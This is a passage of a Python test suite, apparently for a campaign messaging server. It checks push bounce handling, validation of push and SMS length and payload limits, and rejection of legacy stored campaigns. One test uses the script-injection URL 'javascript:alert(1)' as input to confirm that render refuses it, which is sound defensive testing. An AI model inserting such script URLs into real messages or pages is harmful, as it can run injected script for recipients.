    users = [f"d{i:02d}" for i in range(24)]
    await _push_campaign_and_user(campaigns, profiles, users[0], "tok-d00")
    for user in users[1:]:
        await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
            user_id=user, attributes={"push_token": f"tok-{user}"}))
    provider.answer(410)
    started = await messaging.SendCampaign(mpb.SendCampaignRequest(
        campaign_id="push", user_ids=users, rate_per_second={"push": 500}))
    done = await until_done(messaging, started.send_id)
    assert done.cancelled_at > 0 and done.sent == 0 and done.failed >= 20
    assert done.suppressed_by_reason["bounce_breaker"] == 24 - done.failed
    assert [await _push_token(tailor_server, u) for u in users] == [f"tok-{u}" for u in users]
    line = _breaker_line(caplog, started.send_id)
    assert "push messages" in line and "; the tokens held are not dropped, those" in line, line
    assert "address" not in line


async def _stored_unchecked(tailor_server, profiles, content: dict[str, str]) -> None:
    """Push campaign "old" stored as a release before today's CreateCampaign checks stored it:
    its one variant "p" holds `content` unchecked (`p1` has a push token)."""
    from dataclasses import replace

    from server.campaigns.spec import Campaign, CampaignSpec, Variant
    spec = CampaignSpec(campaign_id="old", channel="push", policy="fixed", variants=(
        Variant("p", {"title": "t", "body": "b"}),)).validated()
    spec = replace(spec, variants=(Variant("p", content),))
    await asyncio.to_thread(tailor_server.campaigns.repo.create,
                            Campaign(spec, created_at=time.time(), updated_at=time.time()),
                            spec.new_state())
    await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
        user_id="p1", attributes={"push_token": "tok-1"}))


async def test_a_campaign_stored_with_a_script_push_url_before_the_check_is_refused_at_render(
        provider, profiles, messaging, tailor_server):
    """Stored before CreateCampaign checked the url: its message is FAILED_PRECONDITION naming
    the part (not INVALID_ARGUMENT from the template cache), and nothing goes."""
    await _stored_unchecked(tailor_server, profiles, {"title": "t", "body": "b",
                                                      "url": "javascript:alert(1)"})
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ComposeMessage(compose("p1", "old"))
    assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION
    assert "part 'url'" in err.value.details()
    assert provider.requests == []


async def test_a_push_over_its_payload_bytes_fails_each_recipient_naming_part_and_limit(
        provider, campaigns, profiles, messaging):
    """A push whose url renders past `push_payload_bytes` (4000) with the user's data is
    refused at render; a send counted each such recipient under the bare class name
    'OverChannelLimit', which said neither the variant, the part nor the limit. The reason is
    one per variant, part and limit, never a user's byte counts (two users, one reason)."""
    await campaigns.CreateCampaign(cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
        campaign_id="wide", channel="push", policy="fixed",
        variants=[cpb.Variant(id="p", content={"title": "t", "body": "b", "u": "a" * 3500,
                                                "url": "myapp://i/{{ content.u }}{{ profile.t }}"})])))
    for user, n in (("u1", 900), ("u2", 1000)):
        await profiles.UpsertAttributes(ppb.UpsertAttributesRequest(
            user_id=user, attributes={"push_token": f"tok-{user}", "t": "b" * n}))
    started = await messaging.SendCampaign(mpb.SendCampaignRequest(
        campaign_id="wide", user_ids=["u1", "u2"], rate_per_second={"push": 100}))
    done = await until_done(messaging, started.send_id)
    assert (done.sent, done.failed) == (0, 2)
    assert dict(done.failed_by_reason) == {
        "OverChannelLimit: variant 'p', part 'url': over push_payload_bytes (4000)": 2}
    assert provider.requests == []


@pytest.mark.parametrize("content, part, problem", [
    ({"title": "x" * 66, "body": "b"}, "title", "66 characters, at most 65 (push_title_chars)"),
    ({"title": "Hi {{ first_name | default('') }}" + "é" * 64, "body": "b"}, "title",
     "67 characters, at most 65 (push_title_chars)"),
    ({"title": "t", "body": "b", "url": "myapp://i/" + "a" * 4000}, "url",
     "the push payload takes 4043 bytes encoded (title 1, body 1, url 4010)"),
])
async def test_a_push_whose_literal_text_is_over_a_limit_is_refused_when_created(
        campaigns, content, part, problem):
    """The text outside any tag is in every render: past a push limit alone, every message
    of the campaign was refused at send (FAILED_PRECONDITION, each recipient failed) while
    CreateCampaign accepted it."""
    with pytest.raises(grpc.RpcError) as err:
        await campaigns.CreateCampaign(cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
            campaign_id="lit", channel="push", policy="fixed",
            variants=[cpb.Variant(id="p", content=content)])))
    assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert f"variants[0].content['{part}']" in err.value.details()
    assert problem in err.value.details(), err.value.details()


async def test_a_push_whose_text_may_fit_is_accepted_when_created(campaigns):
    # a branch may not render; data may be short: only the text every render has counts
    await campaigns.CreateCampaign(cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
        campaign_id="fits", channel="push", policy="fixed",
        variants=[cpb.Variant(id="p", content={
            "title": "{% if first_name is defined %}" + "x" * 100 + "{% endif %}" + "y" * 65,
            "body": "{{ first_name | default('') }}" + "z" * 240})])))


async def test_an_sms_whose_literal_text_is_over_its_segments_is_refused_when_created(campaigns):
    # 5 segments of text written in the template (sms_segments: 4): every text of it failed
    long = "Hi {{ first_name | default('') }}, " + "x" * 700
    with pytest.raises(grpc.RpcError) as err:
        await campaigns.CreateCampaign(cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
            campaign_id="sms5", channel="sms", policy="fixed",
            variants=[cpb.Variant(id="s", content={"text": long})])))
    assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert "variants[0].content['text']" in err.value.details()
    assert "5 SMS segments (705 gsm7 units), at most 4" in err.value.details()
    # an email's text part is the same key: a campaign mailing it too may send it by email
    await campaigns.CreateCampaign(cpb.CreateCampaignRequest(spec=cpb.CampaignSpec(
        campaign_id="both", channel="email", channels=["email", "sms"], policy="fixed",
        variants=[cpb.Variant(id="s", content={"subject": "s", "text": long})])))


async def test_a_push_campaign_stored_with_an_over_long_literal_title_fails_at_send_naming_it(
        provider, profiles, messaging, tailor_server):
    """Stored before CreateCampaign checked the literal text: it still loads and is refused at
    render (FAILED_PRECONDITION; a send's recipients failed under the limit's reason), not
    INVALID_ARGUMENT from the template cache, and nothing goes."""
    await _stored_unchecked(tailor_server, profiles, {"title": "x" * 66, "body": "b"})
    with pytest.raises(grpc.RpcError) as err:
        await messaging.ComposeMessage(compose("p1", "old"))
    assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION
    assert "part 'title': 66 characters, at most 65 (push_title_chars)" in err.value.details()
    started = await messaging.SendCampaign(mpb.SendCampaignRequest(
        campaign_id="old", user_ids=["p1"], rate_per_second={"push": 100}))
    done = await until_done(messaging, started.send_id)
    assert dict(done.failed_by_reason) == {
        "OverChannelLimit: variant 'p', part 'title': over push_title_chars (65)": 1}
    assert provider.requests == []
